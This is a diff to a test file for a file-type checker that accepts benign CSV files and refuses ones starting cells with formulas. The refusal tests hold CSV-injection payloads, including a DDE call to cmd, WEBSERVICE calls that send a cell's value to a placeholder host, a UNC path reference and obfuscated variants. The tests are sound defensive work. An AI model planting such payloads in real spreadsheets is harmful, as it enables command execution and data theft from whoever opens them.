@@ -55,6 +55,23 @@ describe('takes', () => {
     expect(await look(Buffer.from('\ufeffDate;="00012"\n'), 'a.csv')).toBe('csv')
   })
 
+  it.each([
+    ['amounts', '-12.50,+12.50,"-1,204.50",-$5,- 5.00 EUR,(12.50),-1\'204.50,−3,-5%,-1E5,-.5,+'],
+    ['amounts with commas', '01.10.2026;"-1.204,50";- 12,50 €;-;--;+/-;=12,5;="a b"'],
+    ['telephone numbers', '+1 555 010-9999,+1 (555) 010-9999 ext. 5,+49/30/1234,+44 (0)20 7946 0000'],
+    ['remarks', "- fee,-POS PURCHASE #12,- opening balance: O'Hara & Co.,+ bonus,-- total --,@handle,@ 5%"],
+    ['rules', '=====,-----,+---+---+,@'],
+    ['text that another program made safe', '\'=A1,\'-x(1),"\'=HYPERLINK(""x"")"'],
+    ['formulas that are none', 'a=b(c),Total = SUM(A1),x@example.com (Ada),2-3 (x),f(-1)'],
+    ['a name that begins like another kind of file', 'ID;Price;Date\n1;-2;3'],
+    ['dates and times', '2026-10-02,10/02/2026,10:00-11:00,+02:00,-05:00'],
+    ['a named separator', 'sep=;\n1;"a, b";-2'],
+    ['lines in a cell', '"- first\n- second",-1'],
+    ['nothing', '\n\n,,;;||\t\n'],
+  ])('a CSV file with %s', async (_, text) => {
+    expect(await look(Buffer.from(`${text}\n`), 'a.csv')).toBe('csv')
+  })
+
   it('what a phone adds behind a photo', async () => {
     const photo = Buffer.concat([pictures['image/jpeg'], Buffer.from('ftypmp42 a moving picture')])
     expect(await look(photo)).toBe('jpeg')
@@ -306,12 +323,61 @@ describe('refuses', () => {
     ['bytes', Buffer.from('a,b\0c\n'), /not plain text/],
     ['two bytes a letter', Buffer.from('a,b\n', 'utf16le'), /not plain text/],
     ['a page', Buffer.from('  <table><tr>'), /web page/],
-    ['a call of a program', Buffer.from("a,=cmd|'/C calc'!A0\n"), /formulas/],
-    ['a call of a function', Buffer.from('a;"=HYPERLINK(""http://x"")"\n'), /formulas/],
-    ['one behind a sign', Buffer.from('a\t+WEBSERVICE("http://x")\n'), /formulas/],
-    ['one at its start', Buffer.from('@SUM(1)\n'), /formulas/],
+    ['a page of mail', Buffer.from('MIME-Version: 1.0\n'), /another kind of file/],
+    [
+      'an older workbook',
+      Buffer.from('ID;PWXL;N;E\nC;X1;Y1;K0;EWEBSERVICE("http://x")\n'),
+      /another kind of file/,
+    ],
+    ['two wide bytes a letter', Buffer.from('\ufeff＠ＡＢ（１）', 'utf16le'), /not plain text/],
+    ['a mark as separator', Buffer.from('sep="\na"=1\n'), /not plain text/],
+    ['two separators', Buffer.from('sep=,;\na,=1\n'), /not plain text/],
   ])('a CSV file with %s', async (_, bytes, why) => {
     expect(await look(bytes, 'a.csv')).toMatch(why)
+  })
+
+  const call = 'HYPERLINK("http://x")'
+  it.each([
+    ['a call of a program', "a,=cmd|'/C calc'!A0\n", 1, 2],
+    ['a call of a function', 'a;"=HYPERLINK(""http://x"")"\n', 1, 2],
+    ['one behind a sign', 'a\tb\nc\t+WEBSERVICE("http://x")\n', 2, 2],
+    ['one at its start', '@SUM(1)\n', 1, 1],
+    ['a comma in a text before it', '"=""a,b""&WEBSERVICE(""http://x/?x=""&A1)"\n', 1, 1],
+    ['a semicolon in a text before it', `a,"=1&""x;y""&${call.replaceAll('"', '""')}"\n`, 1, 2],
+    ['a bar between cells', `sep=|\nfoo|=${call}|3\n`, 2, 2],
+    ['a blank before the parenthesis', 'a,b\n=HYPERLINK ("http://x"),1\n', 2, 1],
+    ['a call of a program behind a text', `"=""x,""&cmd|'/C calc'!A0"\n`, 1, 1],
+    ['another separator that it names', `"sep=^"\r\na^b\r\nc^=${call}\r\n`, 3, 2],
+    ['a blank as separator', `sep= \na =A1\n`, 2, 2],
+    ['a bar that it does not name', `a,b\nc,d|=A1\n`, 2, 2],
+    ['quotes that only commas heed', `a,"b;=${call.replaceAll('"', '""')}"\n`, 1, 2],
+    ['commas and semicolons at once', `x,"y";=A1\n`, 1, 2],
+    ['a quote that never closes', `a,b\n"=${call.replaceAll('"', '""')}\n`, 2, 1],
+    ['one on a line within a cell, for semicolons', `a;b\nc,"d\n=A1"\n`, 3, 1],
+    ['one behind blanks', ' \u00a0\t=A1\n', 1, 2],
+    ['one behind quotes', '"""=A1"\n', 1, 1],
+    ['one behind characters without width', '\u200b\u2060=A1\n', 1, 1],
+    ['one behind a second mark of order', '\ufeff\ufeff=A1\n', 1, 1],
+    ['one in wide characters', 'a,＝ＷＥＢＳＥＲＶＩＣＥ（１）\n', 1, 2],
+    ['one behind a wide sign', 'a,＋ＡＢ（１）\n', 1, 2],
+    ['one after an old line end', 'a\r=A1\r', 2, 1],
+    ['one in parentheses behind a telephone number', `+1 (555) ${call}\n`, 1, 1],
+    ['one within parentheses', `+1 (${call})\n`, 1, 1],
+    ['one in other letters', '-СУММ(1)\n', 1, 1],
+    ['one of several signs', '-+-@SUM (1)\n', 1, 1],
+    ['one with digits at its end', '-LOG10(1)\n', 1, 1],
+    ['a reference to another file', "-'\\\\10.0.0.1\\5\\[6]7'!1:1\n", 1, 1],
+    ['one to a name in it', '+book.xlsx!name\n', 1, 1],
+    ['one as LibreOffice writes it', "-'file:///x'#$Sheet1.A1\n", 1, 1],
+    ['one as it may be written', '-file:///x#Sheet1.A1\n', 1, 1],
+    ['a reference', 'a,=A1\n', 1, 2],
+    ['two texts', '="a"&"b"\n', 1, 1],
+    ['a text that ends early', '"=""a""&A1&"""\n', 1, 1],
+    ['a sign before more than a cell holds', `a,-${'b'.repeat(32_768)}\n`, 1, 2],
+  ])('a CSV file with a formula, and says where: %s', async (_, text, row, column) => {
+    expect(await look(Buffer.from(text), 'a.csv')).toContain(
+      `Row ${row}, column ${column} begins with a sign`,
+    )
   })
 
   it('what was changed by chance, or takes it, and never fails', async () => {
